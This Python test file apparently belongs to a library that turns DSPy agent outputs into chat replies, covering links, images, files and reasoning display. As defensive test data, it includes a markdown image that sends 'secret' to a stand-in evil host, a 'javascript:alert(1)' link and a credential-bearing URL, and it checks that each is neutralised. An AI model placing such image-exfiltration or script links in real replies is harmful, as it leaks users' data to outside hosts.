"""What the agent returned, as an answer."""

from __future__ import annotations

import asyncio
import base64
import json
from typing import Any

import dspy
import pytest

from dspy_session import Session
from dspy_session_chat import FileLimits, Link, Manners
from dspy_session_chat.fields import AgentFields
from dspy_session_chat.forms import NO_ANSWER, Forms
from dspy_session_chat.markup.outward import outward
from dspy_session_chat.reply import Reply, ReplyFile
from dspy_session_chat.testing import ChatTester
from tests.chat.agents import held
from tests.work import lines_run

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def forms(signature: str, **options: Any) -> Forms:
    return Forms(AgentFields.of(Session(dspy.Predict(signature))), lambda text: text, **options)


@pytest.mark.parametrize(
    ("sources", "links"),
    [
        ("https://a.example/x\nhttps://b.example", [Link("https://a.example/x"), Link("https://b.example")]),
        (["https://a.example"], [Link("https://a.example")]),
        ([{"url": "https://a.example", "title": "A"}], [Link("https://a.example", "A")]),
        ([{"title": "A book"}], [Link("", "A book")]),
        ("- A book, page 3", [Link("", "A book, page 3")]),
        (["javascript:alert(1)"], [Link("", "javascript:alert(1)")]),
        (["https://user:secret@a.example"], [Link("", "https://user:secret@a.example")]),
        (None, []),
        ([], []),
        (7, []),
    ],
)
async def test_sources_become_links(sources: Any, links: list[Link]) -> None:
    reply = await forms("message -> reply, sources").reply({"reply": "Yes.", "sources": sources})
    assert reply.text == "Yes."
    assert list(reply.links) == links


def test_what_is_very_long_is_made_ready_beside_the_loop() -> None:
    def work(paragraphs: int) -> int:
        text = "A [link](https://ok.example), and words that go with it.\n\n" * paragraphs
        return lines_run(lambda: asyncio.run(made.reply({"reply": text})))

    made = Forms(AgentFields.of(Session(dspy.Predict("message -> reply"))), outward)
    work(100)  # what is made once is made
    assert work(800) < 1.5 * work(100)


def test_sources_stand_beneath_where_a_platform_has_no_form_of_its_own() -> None:
    reply = Reply("Yes.", links=(Link("https://a.example", "A [book]"), Link("", "B")), table=(("mood", "a | b"),))
    assert reply.markdown == "Yes.\n\n| | |\n|---|---|\n| mood | a \\| b |\n\n1. [A (book)](<https://a.example>)\n2. B"
    assert Reply("Yes.").markdown == "Yes."


async def test_thoughts_and_further_fields_are_shown_by_option_only() -> None:
    outputs = {
        "reasoning": "Because.",
        "reply": "Yes.",
        "mood": "good",
        "trajectory": {"secret": 1},
        "tags": ["a", "b"],
    }
    fields = AgentFields.of(Session(dspy.ChainOfThought("message -> reply: str, tags: list[str]")))
    assert await Forms(fields, str).reply(outputs) == Reply("Yes.")
    shown = await Forms(fields, str, reasoning=True, table=True).reply(outputs)
    assert shown.reasoning == "Because."
    assert dict(shown.table) == {"mood": "good", "tags": "['a', 'b']"}


async def test_pictures_and_files_go_along() -> None:
    picture = dspy.Image(f"data:image/png;base64,{base64.b64encode(PNG).decode()}")
    reply = await forms("message -> reply, picture: dspy.Image").reply({"reply": "Look.", "picture": picture})
    assert reply.files == (ReplyFile("picture.png", "image/png", PNG),)
    several = await forms("message -> reply, pictures: list[dspy.Image]").reply(
        {"reply": "", "pictures": [picture, picture]}
    )
    assert [file.name for file in several.files] == ["pictures.png", "pictures-2.png"]
    assert several.text == ""


async def test_nothing_is_said_in_words() -> None:
    assert (await forms("message -> reply").reply({"reply": "  "})).text in (NO_ANSWER, "  ")
    assert (await forms("message -> reply").reply({"reply": None})).text == NO_ANSWER


def test_a_reply_comes_back_equal_from_json() -> None:
    reply = Reply(
        "Yes.",
        "t1",
        (Link("https://a.example", "A"),),
        (ReplyFile("a.png", "image/png", PNG),),
        (("a", "b"),),
        "Hm",
        (),
        True,
    )
    assert Reply.from_json(json.loads(json.dumps(reply.to_json()))) == reply


# --- through a bot ----------------------------------------------------------------------------------------------------


class Painter(dspy.Module):
    """Returns all that an answer may have."""

    async def aforward(self, message: str) -> dspy.Prediction:
        return dspy.Prediction(
            reasoning="They asked.",
            reply="Here: ![x](https://evil.example/?q=secret) and [home](https://good.example)",
            sources=["https://a.example"],
            picture=dspy.Image(f"data:image/png;base64,{base64.b64encode(PNG).decode()}"),
            mood="good",
        )


async def test_an_answer_carries_all_of_it() -> None:
    manners = Manners(show_reasoning=True, show_fields=True)
    async with ChatTester(held(Painter()), manners=manners, output_field="reply") as chat:
        reply = await chat.say("paint")
    assert "![" not in reply.reply.text  # type: ignore[union-attr]  # whoever looks at an image tells its host
    assert "[home](https://good.example)" in reply.text
    assert reply.links == (Link("https://a.example"),)
    assert reply.files == (ReplyFile("picture.png", "image/png", PNG),)
    assert reply.reasoning == "They asked."
    assert dict(reply.table) == {"mood": "good"}


class Reader(dspy.Module):
    """Says what it was shown."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[Any] = []

    async def aforward(self, message: str, pictures: list[dspy.Image]) -> dspy.Prediction:
        self.seen.append(pictures)
        return dspy.Prediction(reply=f"{len(pictures)} pictures, and: {message}")


async def test_files_go_where_the_agent_looks_for_them() -> None:
    agent = Reader()
    files = {"cat.png": PNG, "notes.txt": b"buy milk", "song.mp3": b"ID3\x04" + b"\0" * 50}
    async with ChatTester(held(agent), input_field="message") as chat:
        reply = await chat.say("look", files=files)
    assert reply.text.startswith("1 pictures, and: look")
    assert "buy milk" in reply.text
    assert "song.mp3 was not read" in reply.text
    (picture,) = agent.seen[0]
    assert isinstance(picture, dspy.Image)


async def test_files_that_are_too_large_or_cannot_be_had_are_said() -> None:
    from dspy_session.errors import PlatformError

    async with ChatTester(held(Reader()), input_field="message", files=FileLimits(bytes_each=10)) as chat:
        reply = await chat.say("look", files={"notes.txt": b"far too much of it"})
        assert "notes.txt was not read" in reply.text
        chat.platform.fail("fetch", PlatformError("the platform does not give it"))
        reply = await chat.say("look", files={"a.txt": b"short"})
        assert "a.txt was not read" in reply.text
